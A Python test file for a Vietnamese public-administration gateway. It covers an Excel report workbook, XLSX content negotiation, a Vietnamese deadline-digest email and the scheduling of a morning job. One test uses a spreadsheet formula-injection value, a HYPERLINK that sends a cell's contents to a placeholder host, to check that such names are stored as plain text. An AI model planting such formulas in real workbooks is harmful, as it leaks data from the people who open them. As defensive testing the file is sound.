"""The pure parts of issue 16 in the gateway: the II.06a workbook from a stats answer, the
workbook media type's negotiation, the alert digest's email, and the morning's next run."""

from datetime import datetime, time
from io import BytesIO

from openpyxl import load_workbook

from cchc.contracts.localtime import LOCAL_TZ
from cchc.gateway.alerts.digest import digest_email, digest_payload
from cchc.gateway.alerts.schedule import next_run_after
from cchc.gateway.workbooks.form_ii06a import ii06a_workbook
from cchc.gateway.workbooks.negotiation import XLSX, wants_xlsx


def stats(received: int, early: int, late: int) -> dict:
    return {"received": {"total": received, "online": received - 1, "direct": 1, "postal": 0,
                         "carried_over": 0},
            "resolved": {"total": early + late, "early": early, "on_time": 0, "late": late},
            "in_progress": {"total": received - early - late, "not_due": received - early - late,
                            "overdue": 0},
            "withdrawn": 0,
            "on_time_rate": round(early / (early + late), 4) if early + late else None}


def test_the_form_has_a_row_per_agency_named_and_the_totals():
    one, two = stats(1234, 1000, 34), stats(5, 0, 0)
    total = stats(1239, 1000, 34)
    answer = {"agency": None, "from": "2022-01-01", "to": "2022-12-31", **total,
              "by_agency": {"STP": one, "SYT": two}}
    sheet = load_workbook(BytesIO(ii06a_workbook(answer, "Ủy ban nhân dân tỉnh",
                                                 {"STP": "Sở Tư pháp"}))).active
    rows = {row[1]: row for row in sheet.iter_rows(min_row=12, max_row=14, values_only=True)}
    assert rows["Sở Tư pháp"][0] == 1 and rows["SYT"][0] == 2  # no name known: its code
    assert rows["Sở Tư pháp"][2:15] == (1234, 1233, 1, 0, 1034, 1000, 0, 34, 200, 200, 0, 0,
                                        0.9671)
    assert rows["SYT"][14] is None  # nothing resolved: no rate
    assert rows["Tổng cộng"][2] == 1239
    assert sheet.cell(row=12, column=3).number_format == "#,##0"
    assert sheet.cell(row=12, column=15).number_format == "0.00%"
    assert sheet.cell(row=12, column=2).font.name == "Times New Roman"


def test_a_name_that_looks_like_a_formula_is_written_as_text():
    """Names are typed by people: in a workbook they must never become formulas."""
    answer = {"agency": None, "from": "2022-01-01", "to": "2022-12-31", **stats(1, 1, 0),
              "by_agency": {"STP": stats(1, 1, 0)}}
    name = '=HYPERLINK("https://example.invalid/?d="&C12,"Sở Tư pháp")'
    book = load_workbook(BytesIO(ii06a_workbook(answer, "=1+1", {"STP": name})))
    cells = [cell for row in book.active.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert [cell.value for cell in cells if cell.column == 2] == [name]
    assert {cell.data_type for cell in cells} == {"s"}  # "f" would be a formula


def test_the_workbook_is_asked_for_by_its_media_type():
    assert wants_xlsx(XLSX)
    assert wants_xlsx(f"application/json;q=0.5, {XLSX}")
    assert not wants_xlsx(f"{XLSX};q=0")
    assert not wants_xlsx("application/json")
    assert not wants_xlsx(None)
    assert not wants_xlsx("*/*")


def test_the_digest_email_lists_each_dossier_in_vietnamese():
    item = {"id": "d-1", "procedure": "1.000001", "procedure_name": "Cấp giấy phép bưu chính",
            "applicant_name": "Nguyễn Văn An", "received_at": "2022-07-12T09:00:00+07:00",
            "due_at": "2022-07-15T17:00:00+07:00", "due_on": "2022-07-15", "appointment_at": None}
    day = {"day": "2022-07-15", "next_working_day": "2022-07-18"}
    agency = {"agency": "STTTT", "due_today": [item], "due_tomorrow": [], "overdue": [],
              "count": 1}
    payload = digest_payload(day, agency, "Sở Thông tin và Truyền thông")
    mail = digest_email(payload, "cchc@tinh.vn", ["a@so.vn", "b@so.vn"])
    assert mail["Subject"] == ("[CCHC] Sở Thông tin và Truyền thông: 1 hồ sơ cần chú ý ngày "
                               "15/07/2022")
    assert mail["To"] == "a@so.vn, b@so.vn"
    text = mail.get_content()
    assert "Hồ sơ đến hạn giải quyết hôm nay: 1" in text
    assert "1. Hồ sơ d-1 — Cấp giấy phép bưu chính — người nộp: Nguyễn Văn An — hạn: " \
           "17:00 15/07/2022" in text


def test_a_name_typed_over_two_lines_still_makes_a_mail():
    """A header may not hold a line break: the mail was refused, the digest never sent."""
    day = {"day": "2022-07-15", "next_working_day": "2022-07-18"}
    agency = {"agency": "STTTT", "due_today": [], "due_tomorrow": [], "overdue": [], "count": 0}
    payload = digest_payload(day, agency, "Sở Thông tin\r\nvà Truyền thông")
    mail = digest_email(payload, "cchc@tinh.vn", ["a@so.vn"])
    assert mail["Subject"] == "[CCHC] Sở Thông tin và Truyền thông: 0 hồ sơ cần chú ý ngày 15/07/2022"
    assert mail.as_bytes()  # serialisable, as smtplib will


def test_the_morning_run_is_today_before_its_time_else_tomorrow():
    at = time(7, 30)
    before = datetime(2022, 7, 15, 6, 0, tzinfo=LOCAL_TZ)
    assert next_run_after(before, at) == datetime(2022, 7, 15, 7, 30, tzinfo=LOCAL_TZ)
    after = datetime(2022, 7, 15, 7, 30, tzinfo=LOCAL_TZ)
    assert next_run_after(after, at) == datetime(2022, 7, 16, 7, 30, tzinfo=LOCAL_TZ)
    # 23:00 UTC on 14/7 is 06:00 on 15/7 in Vietnam.
    utc = datetime.fromisoformat("2022-07-14T23:00:00+00:00")
    assert next_run_after(utc, at).date().isoformat() == "2022-07-15"
